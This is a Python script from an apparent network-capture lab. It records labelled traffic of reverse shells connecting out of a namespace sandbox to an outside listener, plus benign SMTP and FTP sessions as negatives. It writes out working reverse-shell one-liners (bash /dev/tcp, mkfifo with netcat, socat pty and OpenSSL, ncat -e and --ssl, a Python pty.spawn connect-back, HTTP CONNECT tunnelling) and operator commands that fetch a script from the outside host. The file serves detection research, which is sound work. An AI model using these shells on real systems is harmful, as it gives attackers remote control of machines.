#!/usr/bin/env python3
"""Reverse-shell scenarios of the capture lab: the sandbox connects OUT to a listener on the outside host and an
operator there types commands back with human timing; and negatives where the sandbox itself leads an interactive
line protocol (SMTP, FTP, IRC, Redis, PostgreSQL, a WebSocket chat, long-poll HTTP).

Not imported by captures/lab.py (no detector exists for these yet): record them with
    sudo python captures/lab_shells.py record [SCENARIO ...] [--out DIR]     (default DIR: captures/reverse-shells)
    python captures/lab_shells.py list

Real software from Debian 12 wherever it exists: bash 5.2 (/dev/tcp), dash, netcat-traditional 1.10, netcat-openbsd
1.219, ncat 7.93 (-e, --ssl, --proxy), socat 1.7.4.4 (pty, OPENSSL, PROXY), Python's pty.spawn one-liner,
websockify 0.10, tinyproxy 1.11; for the negatives aiosmtpd 1.4.3 and swaks, pyftpdlib 1.5.7 with tnftp and lftp,
ngircd 26 with irssi 1.4 and ii 1.8, redis-server/redis-cli 7.0, PostgreSQL 15 with psql, python3-websockets 10.4
(its own interactive client), curl. Small programs of ours in reverse-shells/src/: the WebSocket shell client (no
packaged tool opens a shell over WebSocket), the chat room and the long-poll endpoint (servers only).

The shells run inside the sandbox namespace in fresh UTS, PID and mount namespaces (host name `lab-sandbox`, a home
of its own on /root, an empty /tmp), so what the operator sees, and the capture keeps, is the lab's and never this
machine's. Every address is one the lab creates (198.18.0.2 the outside host; 198.18.0.5, reached only through the
proxy, never crosses the bridge). Nothing leaves the namespaces.
"""
from __future__ import annotations

import contextlib
import fcntl
import os
import random
import select
import shutil
import signal
import struct
import subprocess
import sys
import termios
import threading
import time
from pathlib import Path
from typing import Iterator

sys.path.insert(0, str(Path(__file__).resolve().parent))
import lab  # noqa: E402
from lab import OUTSIDE_IP, SANDBOX_IP, Lab, Label  # noqa: E402

FOLDER = Path(__file__).resolve().parent / "reverse-shells"
SRC = FOLDER / "src"
BEHIND_PROXY_IP = "198.18.0.5"  # the listener that only the proxy reaches (added to the outside host)
DOWNLOAD_PORT = 8000  # the outside's web server the operator's curl/wget fetch from
DEBIAN_PYTHON = "/usr/bin/python3"  # python3-websockets, -aiosmtpd, -pyftpdlib are Debian's, for this interpreter
SANDBOX_HOSTNAME = "lab-sandbox"
KEY_S = (0.08, 0.26)  # seconds per keystroke
READ_S = (0.6, 3.0)  # seconds spent reading a command's output before typing the next one
SANDBOX_ENV = {"PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOME": "/root",
               "USER": "root", "LOGNAME": "root", "SHELL": "/bin/bash", "LANG": "C.UTF-8", "TERM": "xterm"}

SHELL_SCENARIOS: list[str] = []  # this module's scenarios, in definition order


def scenario(fn: lab.Scenario) -> lab.Scenario:
    """Register with the lab (lab.record runs it) and remember it as one of ours."""
    lab.scenario(fn)
    SHELL_SCENARIOS.append(fn.__name__.replace("_", "-"))
    return fn


def find_tool(name: str) -> str | None:
    """A program on PATH, in /usr/sbin, or among PostgreSQL's server programs (Debian keeps initdb and postgres in
    /usr/lib/postgresql/VERSION/bin, off PATH)."""
    found = shutil.which(name) or shutil.which(name, path="/usr/sbin:/sbin")
    if found is None:
        versions = sorted(Path("/usr/lib/postgresql").glob(f"*/bin/{name}"), key=lambda p: int(p.parts[-3]))
        found = str(versions[-1]) if versions else None
    return found


def require(*tools: str) -> None:
    missing = [t for t in tools if find_tool(t) is None]
    if missing:
        raise RuntimeError(f"lab_shells: {', '.join(missing)} not found (see captures/reverse-shells/README.md "
                           f"for the Debian packages)")


# ----------------------------------------------------------------------------------------------- isolation
# Inside fresh UTS/PID/mount namespaces: a host name of the lab's with /etc/hosts and /etc/resolv.conf to match (no
# lookup ever goes to this machine's resolver), and, given a home, the lab's home on /root and an empty tmpfs on
# /tmp; then exec the program. A fixed script; its arguments are a host name, paths and argv of ours.
ISOLATE = r'''
hostname "$0" && mount --bind "$1" /etc/hosts && mount --bind "$2" /etc/resolv.conf || exit 1
if [ -n "$3" ]; then
    mount --bind "$3" /root && mount -t tmpfs -o mode=1777 tmpfs /tmp && cd /root || exit 1
fi
shift 3
exec "$@"
'''


def sandbox_home(lab_: Lab) -> Path:
    """The home the sandbox's shells see on /root: Debian's skeleton dot files and a small project."""
    home = lab_.workdir / "sandbox-root"
    if not home.exists():
        (home / "project" / "src").mkdir(parents=True)
        for name in (".bashrc", ".profile"):
            shutil.copy(f"/etc/skel/{name}", home / name)
        (home / "project" / "README.md").write_text("# build-agent\n\nNightly build helpers.\n")
        (home / "project" / "requirements.txt").write_text("requests==2.31.0\npyyaml==6.0.1\n")
        (home / "project" / "src" / "main.py").write_text("print('build ok')\n")
        (home / ".bash_history").write_text("ls\ncd project\npython3 src/main.py\n")
        os.chmod(home, 0o700)
    return home


def isolated(lab_: Lab, argv: list[str], *, hostname: str = SANDBOX_HOSTNAME, home: bool = False,
             resolver: str = OUTSIDE_IP) -> list[str]:
    """argv wrapped to run in its own UTS/PID/mount namespaces (see ISOLATE)."""
    etc = lab_.workdir / f"etc-{hostname}"
    if not etc.exists():
        etc.mkdir()
        short = hostname.split(".")[0]
        (etc / "hosts").write_text(f"127.0.0.1\tlocalhost\n127.0.1.1\t{hostname} {short}\n")
        (etc / "resolv.conf").write_text(f"nameserver {resolver}\n")
    return ["unshare", "--uts", "--pid", "--fork", "--mount-proc", "--kill-child", "sh", "-c", ISOLATE, hostname,
            str(etc / "hosts"), str(etc / "resolv.conf"), str(sandbox_home(lab_)) if home else "", *argv]


def sandboxed(lab_: Lab, argv: list[str], *, home: bool = False) -> list[str]:
    """argv as the sandbox runs it: host name lab-sandbox, its resolver the outside host."""
    return isolated(lab_, argv, home=home)


def stop_group(proc: subprocess.Popen, grace: float = 1) -> None:
    """Stop a process started in a session of its own, with everything in its process group: `unshare --fork`
    ignores SIGTERM while it waits for its child, and the child, PID 1 of its namespace, ignores every signal it has
    no handler for (pid_namespaces(7)) except SIGKILL, which follows after `grace` seconds."""
    if proc.poll() is None:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(proc.pid, signal.SIGTERM)
        try:
            proc.wait(timeout=grace)
        except subprocess.TimeoutExpired:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(proc.pid, signal.SIGKILL)
            proc.wait(timeout=5)


@contextlib.contextmanager
def service(lab_: Lab, ns: str, *cmd: str, ready_port: int | None = None, env: dict | None = None,
            cwd: Path | None = None) -> Iterator[subprocess.Popen]:
    """A background process in a namespace (own process group), stopped on exit; waits until it listens on
    ready_port (TCP)."""
    proc = lab_.popen(ns, *cmd, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                      env=env, cwd=cwd, start_new_session=True)
    try:
        if ready_port is not None:
            lab._wait_listening(lab_, ns, ready_port)
        yield proc
    finally:
        stop_group(proc)


def run_in_sandbox(lab_: Lab, argv: list[str], timeout: float = 60) -> None:
    """A scripted client in the sandbox, run to completion."""
    with service(lab_, lab_.sbx, *sandboxed(lab_, argv), env=SANDBOX_ENV, cwd=user_home(lab_)) as proc:
        proc.wait(timeout=timeout)


def user_home(lab_: Lab) -> Path:
    """The working directory of the sandbox's clients in the negatives (files they send, files they fetch)."""
    home = lab_.workdir / "user"
    home.mkdir(exist_ok=True)
    return home


# ----------------------------------------------------------------------------------------------- terminals
class Paste(str):
    """A line the person pastes (it arrives at once) instead of typing it."""


class Terminal:
    """A program on a pseudo-terminal in a namespace: keys typed with human timing, everything it prints kept.

    `argv` may hold "{tty}", replaced by the terminal's device path (socat's `file:$(tty)`)."""

    def __init__(self, lab_: Lab, ns: str, argv: list[str], *, env: dict | None = None, cwd: Path | None = None,
                 name: str = "", rows: int = 40, cols: int = 120) -> None:
        self.master, slave = os.openpty()
        fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", rows, cols, 0, 0))
        tty = os.ttyname(slave)
        argv = [a.replace("{tty}", tty) for a in argv]
        self.name = f"{ns.rsplit('-', 1)[-1]}-{name or Path(argv[0]).name}"
        self.proc = subprocess.Popen(["ip", "netns", "exec", ns, *argv], stdin=slave, stdout=slave, stderr=slave,
                                     env=env, cwd=cwd, start_new_session=True,
                                     preexec_fn=lambda: fcntl.ioctl(0, termios.TIOCSCTTY, 0))
        os.close(slave)
        self.output = bytearray()
        self._stop = threading.Event()
        self._reader = threading.Thread(target=self._drain, daemon=True)
        self._reader.start()

    def _drain(self) -> None:
        while not self._stop.is_set():
            ready, _, _ = select.select([self.master], [], [], 0.1)
            if ready:
                try:
                    data = os.read(self.master, 65536)
                except OSError:
                    return
                if not data:
                    return
                if len(self.output) < 4 << 20:
                    self.output += data

    def wait_for(self, text: bytes, timeout: float = 15) -> None:
        deadline = time.time() + timeout
        while text not in self.output:
            if time.time() > deadline or self.proc.poll() is not None and text not in self.output:
                raise RuntimeError(f"lab_shells: {text!r} never appeared; terminal said: {self.tail()}")
            time.sleep(0.05)

    def tail(self, n: int = 600) -> str:
        return bytes(self.output[-n:]).decode(errors="replace")

    def type(self, text: str, rng: random.Random, typo: float = 0.0) -> None:
        """Type `text` key by key (80-260 ms each); with probability `typo` per word a wrong key is typed first
        and rubbed out with DEL."""
        for i, ch in enumerate(text):
            if typo and ch.isalpha() and (i == 0 or text[i - 1] == " ") and rng.random() < typo:
                os.write(self.master, rng.choice("qwertyuiopasdfghjklzxcvbnm").encode())
                time.sleep(rng.uniform(*KEY_S) + 0.15)  # noticing the slip takes a moment
                os.write(self.master, b"\x7f")
                time.sleep(rng.uniform(*KEY_S))
            os.write(self.master, ch.encode())
            time.sleep(rng.uniform(*KEY_S))

    def session(self, lines: list[str], rng: random.Random, typo: float = 0.0, read_s=READ_S) -> None:
        """Type each line with Enter, then read the output for 0.6-3 s."""
        for line in lines:
            if isinstance(line, Paste):
                os.write(self.master, line.encode())
                time.sleep(rng.uniform(0.3, 0.8))  # a glance at the pasted line before Enter
            else:
                self.type(line, rng, typo)
            os.write(self.master, b"\r")
            time.sleep(rng.uniform(*read_s))

    def close(self) -> None:
        stop_group(self.proc)
        self._stop.set()
        self._reader.join(timeout=2)
        os.close(self.master)
        if os.environ.get("LAB_SHELLS_TRANSCRIPTS"):  # a folder to keep what each terminal showed, for a look
            Path(os.environ["LAB_SHELLS_TRANSCRIPTS"], f"{self.name}-{self.proc.pid}.txt").write_bytes(self.output)


@contextlib.contextmanager
def terminal(lab_: Lab, ns: str, argv: list[str], **kw) -> Iterator[Terminal]:
    term = Terminal(lab_, ns, argv, **kw)
    try:
        yield term
    finally:
        term.close()


def wait_established(lab_: Lab, ns: str, port: int, timeout: float = 40) -> None:
    """Until a TCP connection to local port `port` in `ns` is established."""
    deadline = time.time() + timeout
    while time.time() < deadline:
        if lab_.run(ns, "ss", "-tnH", "state", "established", f"( sport = :{port} )", check=False).stdout.strip():
            return
        time.sleep(0.1)
    raise RuntimeError(f"lab_shells: nothing connected to port {port} in {ns}")


# ----------------------------------------------------------------------------------------------- reverse shells
# A harmless "enumeration script" for the operator to download, ~14 KiB (tcpdump on the lab's bridge loses the tail
# of a ~40 KiB burst now and then; the download is not what these captures are about)
ENUM_SCRIPT = "#!/bin/sh\n" + "".join(f"# check {i:04d}: collect host facts for the report, nothing is changed\n"
                                      for i in range(200)) + """
echo "== host"; uname -n; uname -r
echo "== user"; id
echo "== network"; cat /proc/net/route | head -5
echo "== suid"; find /usr/bin -perm -4000 2>/dev/null | head -8
"""


@contextlib.contextmanager
def download_server(lab_: Lab) -> Iterator[None]:
    """The outside's web server the operator downloads tools from (curl/wget inside the shell)."""
    www = lab_.workdir / "tools"
    www.mkdir(exist_ok=True)
    (www / "enum.sh").write_text(ENUM_SCRIPT)
    with service(lab_, lab_.out, sys.executable, "-m", "http.server", str(DOWNLOAD_PORT), "--bind", OUTSIDE_IP,
                 "--directory", str(www), ready_port=DOWNLOAD_PORT):
        yield


WGET = Paste(f"wget -q http://{OUTSIDE_IP}:{DOWNLOAD_PORT}/enum.sh")
CURL = Paste(f"curl -sO http://{OUTSIDE_IP}:{DOWNLOAD_PORT}/enum.sh")


def reverse_shell(lab_: Lab, *, listener: list[str], listen_port: int, shell: list[str], lines: list[str],
                  seed: int, typo: float = 0.0, shell_env: dict | None = None) -> None:
    """The operator's listener on a terminal on the outside host; the sandbox's shell connects out to it; the operator
    types `lines` with human timing. Checks that the shell really ran the operator's `id`."""
    rng = random.Random(seed)
    with download_server(lab_), terminal(lab_, lab_.out, listener) as op:
        lab._wait_listening(lab_, lab_.out, listen_port)
        with service(lab_, lab_.sbx, *sandboxed(lab_, shell, home=True),
                     env=dict(SANDBOX_ENV, **(shell_env or {}))) as shell_proc:
            wait_established(lab_, lab_.out, listen_port)
            time.sleep(rng.uniform(1.0, 2.0))  # the operator notices the connection
            op.session(lines, rng, typo)
            with contextlib.suppress(subprocess.TimeoutExpired):
                shell_proc.wait(timeout=2)
            stop_group(op.proc)  # the listener hangs up (nc keeps the connection after the shell's exit)
        if b"uid=0(root)" not in op.output:
            raise RuntimeError(f"lab_shells: the shell never answered `id`; operator's terminal: {op.tail()}")
    time.sleep(1)


def bash_devtcp(port: int) -> list[str]:
    # the classic one-liner; bash needs a shell to parse it (fixed text, lab constants only)
    return ["bash", "-c", f"bash -i >& /dev/tcp/{OUTSIDE_IP}/{port} 0>&1"]


def self_signed(lab_: Lab, name: str = "c2.example") -> Path:
    """A self-signed certificate and key in one PEM file (socat's `cert=`), made at record time."""
    pem = lab_.workdir / "listener.pem"
    if not pem.exists():
        key, crt = lab_.workdir / "listener.key", lab_.workdir / "listener.crt"
        subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", str(key), "-out",
                        str(crt), "-days", "2", "-subj", f"/CN={name}"], check=True, capture_output=True)
        pem.write_bytes(crt.read_bytes() + key.read_bytes())
    return pem


@scenario
def bash_devtcp_4444(lab_: Lab) -> list[Label]:
    """bash -i >& /dev/tcp/HOST/4444 to netcat-traditional's `nc -lvnp 4444`; nine commands, a wget download."""
    require("bash", "nc.traditional", "wget")
    reverse_shell(lab_, listener=["nc.traditional", "-lvnp", "4444"], listen_port=4444, shell=bash_devtcp(4444),
                  lines=["id", "uname -a", "cat /etc/os-release", "ls -la", "ps aux | head", "cd /tmp; ls", WGET,
                         "ls -la", "exit"], seed=11)
    return [(SANDBOX_IP, f"{OUTSIDE_IP}:4444", "reverse_shell",
             "bash 5.2.15 -i >& /dev/tcp, no pty -> nc.traditional 1.10-47 -lvnp (cooked lines); plaintext; port 4444")]


@scenario
def bash_devtcp_443(lab_: Lab) -> list[Label]:
    """The same bash one-liner to `ncat -lvnp 443`; curl download, the downloaded script's output."""
    require("bash", "ncat", "curl")
    reverse_shell(lab_, listener=["ncat", "-lvnp", "443"], listen_port=443, shell=bash_devtcp(443),
                  lines=["whoami", "id", "uname -a", "ls -la", "cd /tmp; ls", CURL, "sh enum.sh", "ps aux | head",
                         "exit"], seed=12)
    return [(SANDBOX_IP, f"{OUTSIDE_IP}:443", "reverse_shell",
             "bash 5.2.15 -i >& /dev/tcp, no pty -> ncat 7.93 -lvnp (cooked lines); plaintext; port 443")]


@scenario
def sh_mkfifo_nc_80(lab_: Lab) -> list[Label]:
    """dash -i through a named pipe and netcat-openbsd (`mkfifo /tmp/f; cat /tmp/f|sh -i 2>&1|nc HOST 80 >/tmp/f`);
    the operator upgrades it with Python's pty.spawn, then types commands echoed by the new pty."""
    require("dash", "nc.openbsd", "mkfifo", DEBIAN_PYTHON)
    fifo = f"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc.openbsd {OUTSIDE_IP} 80 > /tmp/f"
    reverse_shell(lab_, listener=["nc.openbsd", "-lvnp", "80"], listen_port=80, shell=["sh", "-c", fifo],
                  lines=["id", Paste("python3 -c 'import pty; pty.spawn(\"/bin/bash\")'"), "export TERM=xterm",
                         "uname -a", "ls -la", "cat /etc/os-release", "ps aux | head", "exit", "exit"], seed=13)
    return [(SANDBOX_IP, f"{OUTSIDE_IP}:80", "reverse_shell",
             "dash 0.5.12 -i via mkfifo + nc.openbsd 1.219, no pty then python3 pty.spawn upgrade -> nc.openbsd "
             "-lvnp (cooked lines); plaintext; port 80")]


@scenario
def socat_pty_9001(lab_: Lab) -> list[Label]:
    """socat exec:'bash -li',pty,stderr,setsid,sigint,sane to `socat file:$(tty),raw,echo=0 tcp-listen:9001`: every
    key crosses on its own and the sandbox's pty echoes it; a typo rubbed out now and then."""
    require("socat", "wget")
    reverse_shell(lab_, listener=["socat", "file:{tty},raw,echo=0", "tcp-listen:9001"], listen_port=9001,
                  shell=["socat", "exec:bash -li,pty,stderr,setsid,sigint,sane", f"tcp:{OUTSIDE_IP}:9001"],
                  lines=["id", "stty rows 40 cols 120", "uname -a", "ls -la", "ps aux | head", "cd /tmp; ls", WGET,
                         "exit"], seed=14, typo=0.12, shell_env={"TERM": "xterm-256color"})
    return [(SANDBOX_IP, f"{OUTSIDE_IP}:9001", "reverse_shell",
             "socat 1.7.4.4 exec:'bash -li',pty,stderr,setsid,sigint,sane (pty, colour prompt) -> socat "
             "file:tty,raw,echo=0 tcp-listen (one key per segment); plaintext; port 9001")]


@scenario
def socat_nopty_31337(lab_: Lab) -> list[Label]:
    """socat tcp:HOST:31337 exec:/bin/bash (no pty, no prompt: only command output comes back) to a plain socat
    listener on a terminal."""
    require("socat", "curl")
    reverse_shell(lab_, listener=["socat", "-", "tcp-listen:31337"], listen_port=31337,
                  shell=["socat", f"tcp:{OUTSIDE_IP}:31337", "exec:/bin/bash,stderr"],
                  lines=["id", "hostname", "uname -a", "ls -la", "head -5 /etc/passwd", CURL, "ps aux | head", "exit"],
                  seed=15)
    return [(SANDBOX_IP, f"{OUTSIDE_IP}:31337", "reverse_shell",
             "socat 1.7.4.4 tcp exec:/bin/bash,stderr (no pty, no prompt) -> socat - tcp-listen (cooked lines); "
             "plaintext; port 31337")]


@scenario
def ncat_exec_sh_5555(lab_: Lab) -> list[Label]:
    """ncat HOST 5555 -e /bin/sh (dash, no prompt) to netcat-openbsd's `nc -lvnp 5555`."""
    require("ncat", "nc.openbsd")
    reverse_shell(lab_, listener=["nc.openbsd", "-lvnp", "5555"], listen_port=5555,
                  shell=["ncat", OUTSIDE_IP, "5555", "-e", "/bin/sh"],
                  lines=["id", "pwd", "ls -la", "cat /etc/os-release", "cd /tmp; ls", "ps aux | head", "exit"],
                  seed=16)
    return [(SANDBOX_IP, f"{OUTSIDE_IP}:5555", "reverse_shell",
             "ncat 7.93 -e /bin/sh (dash 0.5.12, no pty, no prompt) -> nc.openbsd 1.219 -lvnp (cooked lines); "
             "plaintext; port 5555")]


@scenario
def ncat_ssl_443(lab_: Lab) -> list[Label]:
    """ncat --ssl HOST 443 -e /bin/bash to `ncat --ssl -lvnp 443` (TLS, the listener's certificate made by ncat)."""
    require("ncat", "wget")
    reverse_shell(lab_, listener=["ncat", "--ssl", "-lvnp", "443"], listen_port=443,
                  shell=["ncat", "--ssl", OUTSIDE_IP, "443", "-e", "/bin/bash"],
                  lines=["id", "uname -a", "ls -la", "cat /etc/os-release", "ps aux | head", WGET, "exit"], seed=17)
    return [(SANDBOX_IP, f"{OUTSIDE_IP}:443", "reverse_shell",
             "ncat 7.93 --ssl -e /bin/bash (no pty, no prompt) -> ncat --ssl -lvnp (cooked lines); carrier tls; "
             "port 443")]


@scenario
def socat_openssl_8443(lab_: Lab) -> list[Label]:
    """socat exec:'bash -li',pty,... openssl:HOST:8443,verify=0 to `socat file:$(tty),raw,echo=0
    openssl-listen:8443` with a self-signed certificate: per-key TLS records both ways."""
    require("socat", "openssl", "curl")
    pem = self_signed(lab_)
    reverse_shell(lab_, listener=["socat", "file:{tty},raw,echo=0",
                                  f"openssl-listen:8443,reuseaddr,cert={pem},verify=0"], listen_port=8443,
                  shell=["socat", "exec:bash -li,pty,stderr,setsid,sigint,sane",
                         f"openssl:{OUTSIDE_IP}:8443,verify=0"],
                  lines=["id", "uname -a", "ls -la", "cd /tmp; ls", CURL, "ps aux | head", "exit"], seed=18,
                  typo=0.1)
    return [(SANDBOX_IP, f"{OUTSIDE_IP}:8443", "reverse_shell",
             "socat 1.7.4.4 exec:'bash -li',pty (pty) openssl verify=0 -> socat file:tty,raw,echo=0 openssl-listen "
             "(one key per record, self-signed certificate made at record time); carrier tls; port 8443")]


PY_PTY_SHELL = ("import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
                f"s.connect((\"{OUTSIDE_IP}\",1234));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);"
                "os.dup2(s.fileno(),2);pty.spawn(\"/bin/bash\")")


@scenario
def python_pty_1234(lab_: Lab) -> list[Label]:
    """The common Python one-liner (socket, dup2, pty.spawn("/bin/bash")) to netcat-traditional's `nc -lvnp 1234`."""
    require(DEBIAN_PYTHON, "nc.traditional")
    reverse_shell(lab_, listener=["nc.traditional", "-lvnp", "1234"], listen_port=1234,
                  shell=[DEBIAN_PYTHON, "-c", PY_PTY_SHELL],
                  lines=["id", "uname -a", "ls -la", "cat /etc/os-release", "ps aux | head", "cd /tmp; ls", "exit"],
                  seed=19)
    return [(SANDBOX_IP, f"{OUTSIDE_IP}:1234", "reverse_shell",
             "python3 3.11.2 socket+dup2+pty.spawn('/bin/bash') (pty) -> nc.traditional 1.10-47 -lvnp (cooked "
             "lines); plaintext; port 1234")]


@scenario
def websocket_shell_8080(lab_: Lab) -> list[Label]:
    """bash on a pty relayed over WebSocket (our client, python3-websockets) to websockify on 8080, which hands it to
    the operator's `socat file:$(tty),raw,echo=0 tcp-listen` on the outside host's loopback."""
    require(DEBIAN_PYTHON, "websockify", "socat", "wget")
    with service(lab_, lab_.out, "websockify", f"{OUTSIDE_IP}:8080", "127.0.0.1:4444", ready_port=8080):
        reverse_shell(lab_, listener=["socat", "file:{tty},raw,echo=0", "tcp-listen:4444,bind=127.0.0.1"],
                      listen_port=4444,
                      # the script's text, not its path: the sandbox gets a /tmp of its own, which hides a
                      # checkout under /tmp
                      shell=[DEBIAN_PYTHON, "-c", (SRC / "ws_shell.py").read_text(), f"ws://{OUTSIDE_IP}:8080/"],
                      lines=["id", "uname -a", "ls -la", "ps aux | head", "cd /tmp; ls", WGET, "exit"], seed=20,
                      typo=0.1)
    return [(SANDBOX_IP, f"{OUTSIDE_IP}:8080", "reverse_shell",
             "bash -i on a pty relayed by our WebSocket client (src/ws_shell.py, python3-websockets 10.4, binary "
             "frames) -> websockify 0.10.0 -> socat file:tty,raw,echo=0 (one key per frame); carrier websocket; "
             "port 8080")]


TINYPROXY_CONF = """Port 8888
Listen {ip}
Timeout 600
MaxClients 20
Allow 10.77.0.0/24
Allow 127.0.0.1
ConnectPort 443
ConnectPort 4444
LogLevel Error
"""


@contextlib.contextmanager
def connect_proxy(lab_: Lab) -> Iterator[None]:
    """tinyproxy on the outside host (198.18.0.2:8888, an allowed address) and a second outside address behind it."""
    conf = lab_.workdir / "tinyproxy.conf"
    conf.write_text(TINYPROXY_CONF.format(ip=OUTSIDE_IP))
    lab_.run(lab_.out, "ip", "addr", "add", f"{BEHIND_PROXY_IP}/24", "dev", "eth0")
    try:
        with service(lab_, lab_.out, "tinyproxy", "-d", "-c", str(conf), ready_port=8888):
            yield
    finally:
        lab_.run(lab_.out, "ip", "addr", "del", f"{BEHIND_PROXY_IP}/24", "dev", "eth0", check=False)


@scenario
def ncat_http_connect(lab_: Lab) -> list[Label]:
    """ncat --proxy 198.18.0.2:8888 --proxy-type http -e /bin/bash 198.18.0.5 4444: the shell goes through tinyproxy
    by HTTP CONNECT to `ncat -lvnp 4444` behind it."""
    require("ncat", "tinyproxy")
    with connect_proxy(lab_):
        reverse_shell(lab_, listener=["ncat", "-lvn", BEHIND_PROXY_IP, "4444"], listen_port=4444,
                      shell=["ncat", "--proxy", f"{OUTSIDE_IP}:8888", "--proxy-type", "http", "-e", "/bin/bash",
                             BEHIND_PROXY_IP, "4444"],
                      lines=["id", "uname -a", "ls -la", "cat /etc/os-release", "ps aux | head", "exit"], seed=21)
    return [(SANDBOX_IP, f"{OUTSIDE_IP}:8888", "reverse_shell",
             f"ncat 7.93 --proxy-type http -e /bin/bash (no pty) through tinyproxy 1.11.1 CONNECT "
             f"{BEHIND_PROXY_IP}:4444 -> ncat -lvnp (cooked lines); carrier http_connect; port 8888")]


@scenario
def socat_http_connect(lab_: Lab) -> list[Label]:
    """socat exec:'bash -li',pty,... PROXY:198.18.0.2:198.18.0.5:443,proxyport=8888: a pty shell through tinyproxy by
    HTTP CONNECT to a raw socat listener behind it."""
    require("socat", "tinyproxy")
    with connect_proxy(lab_):
        reverse_shell(lab_, listener=["socat", "file:{tty},raw,echo=0", f"tcp-listen:443,bind={BEHIND_PROXY_IP}"],
                      listen_port=443,
                      shell=["socat", "exec:bash -li,pty,stderr,setsid,sigint,sane",
                             f"proxy:{OUTSIDE_IP}:{BEHIND_PROXY_IP}:443,proxyport=8888"],
                      lines=["id", "uname -a", "ls -la", "ps aux | head", "cd /tmp; ls", "exit"], seed=22, typo=0.1)
    return [(SANDBOX_IP, f"{OUTSIDE_IP}:8888", "reverse_shell",
             f"socat 1.7.4.4 exec:'bash -li',pty (pty) proxy: through tinyproxy 1.11.1 CONNECT {BEHIND_PROXY_IP}:443 "
             f"-> socat file:tty,raw,echo=0 (one key per segment); carrier http_connect; port 8888")]


# ----------------------------------------------------------------------------------------------- negatives
def sandbox_terminal(lab_: Lab, argv: list[str], env: dict | None = None) -> contextlib.AbstractContextManager:
    """A client a person in the sandbox types into (on a terminal; host name lab-sandbox)."""
    home = user_home(lab_)
    return terminal(lab_, lab_.sbx, sandboxed(lab_, argv), env=dict(SANDBOX_ENV, HOME=str(home), **(env or {})),
                    cwd=home, name=Path(argv[0]).name)


@scenario
def smtp_session_benign(lab_: Lab) -> list[Label]:
    """aiosmtpd on 25 and 587: a person in the sandbox types an SMTP dialogue into `nc -C` (port 25), then swaks
    sends a report with an attachment (port 587)."""
    require(DEBIAN_PYTHON, "nc.openbsd", "swaks")
    report = user_home(lab_) / "report.txt"
    report.write_text("".join(f"job {i:03d} ok in {i % 17 + 3} s\n" for i in range(300)))
    rng = random.Random(31)
    # the server's own host name (its banner and EHLO reply) is the lab's, not this machine's
    smtpd = isolated(lab_, [DEBIAN_PYTHON, "-m", "aiosmtpd", "-n", "-c", "aiosmtpd.handlers.Sink", "-l"],
                     hostname="mail.lab.example", resolver="127.0.0.1")
    with service(lab_, lab_.out, *smtpd, f"{OUTSIDE_IP}:25", ready_port=25), \
            service(lab_, lab_.out, *smtpd, f"{OUTSIDE_IP}:587", ready_port=587):
        with sandbox_terminal(lab_, ["nc.openbsd", "-C", OUTSIDE_IP, "25"]) as term:
            term.wait_for(b"220 ")
            time.sleep(1.0)
            term.session([f"EHLO {SANDBOX_HOSTNAME}", "MAIL FROM:<ci@lab.example>", "RCPT TO:<ops@lab.example>",
                          "DATA", "build 1432 done, 2 flaky tests", ".", "QUIT"], rng, typo=0.05)
            term.wait_for(b"221 ")
        run_in_sandbox(lab_, ["swaks", "--server", OUTSIDE_IP, "--port", "587", "--helo", SANDBOX_HOSTNAME,
                              "--from", "agent@lab-sandbox.example", "--to", "ops@mail.lab.example",
                              "--header", "Subject: build report", "--body", "Report attached.",
                              "--attach-type", "text/plain", "--attach", str(report)])
    time.sleep(1)
    return [(SANDBOX_IP, f"{OUTSIDE_IP}:25", "benign", "SMTP typed by a person into nc.openbsd 1.219 -C with human "
             "timing -> aiosmtpd 1.4.3; the sandbox leads; port 25"),
            (SANDBOX_IP, f"{OUTSIDE_IP}:587", "benign", "swaks 20201014.0 (scripted timing), a 6 KiB text attachment "
             "-> aiosmtpd 1.4.3; port 587")]


@scenario
def ftp_session_benign(lab_: Lab) -> list[Label]:
    """pyftpdlib on 21 and 2121: a person types into tnftp's `ftp` (list, get, put), then lftp runs a scripted
    listing and download; passive data connections beside the control connections."""
    require(DEBIAN_PYTHON, "tnftp", "lftp")
    share = lab_.workdir / "ftp"
    (share / "pub").mkdir(parents=True)
    (share / "pub" / "notes.txt").write_text("release notes\n" * 400)
    (share / "pub" / "build.log").write_text("".join(f"step {i} done\n" for i in range(2000)))
    home = user_home(lab_)
    (home / "upload.txt").write_text("results\n" * 300)
    ftpd = [DEBIAN_PYTHON, "-m", "pyftpdlib", "-i", OUTSIDE_IP, "-w", "-d", str(share), "-u", "lab", "-P", "labpass"]
    rng = random.Random(32)
    with service(lab_, lab_.out, *ftpd, "-p", "21", "-r", "30000-30009", ready_port=21), \
            service(lab_, lab_.out, *ftpd, "-p", "2121", "-r", "30010-30019", ready_port=2121):
        with sandbox_terminal(lab_, ["tnftp", "-n", OUTSIDE_IP]) as term:
            term.wait_for(b"220")
            time.sleep(1.0)
            term.session(["user lab labpass", "pwd", "ls", "cd pub", "get notes.txt", "put upload.txt", "bye"], rng,
                         typo=0.05)
            term.wait_for(b"221")
        run_in_sandbox(lab_, ["lftp", "-u", "lab,labpass", "-p", "2121", "-e",
                              "set ftp:ssl-allow no; ls; cd pub; get build.log; bye", OUTSIDE_IP])
    time.sleep(1)
    return [(SANDBOX_IP, f"{OUTSIDE_IP}:21", "benign", "FTP typed by a person into tnftp 20210827 with human timing "
             "-> pyftpdlib 1.5.7; passive data connections (30000-30009) unlabelled; port 21"),
            (SANDBOX_IP, f"{OUTSIDE_IP}:2121", "benign", "lftp 4.9.2 scripted ls + get -> pyftpdlib 1.5.7; port 2121")]


NGIRCD_CONF = """[Global]
    Name = irc.lab.example
    Info = lab IRC server
    Listen = {ip},127.0.0.1
    Ports = 6667, 6697
    PidFile = {wd}/ngircd.pid
    MotdPhrase = welcome to the lab
[Limits]
    PingTimeout = 120
    PongTimeout = 20
[Options]
    DNS = no
    Ident = no
    PAM = no
"""


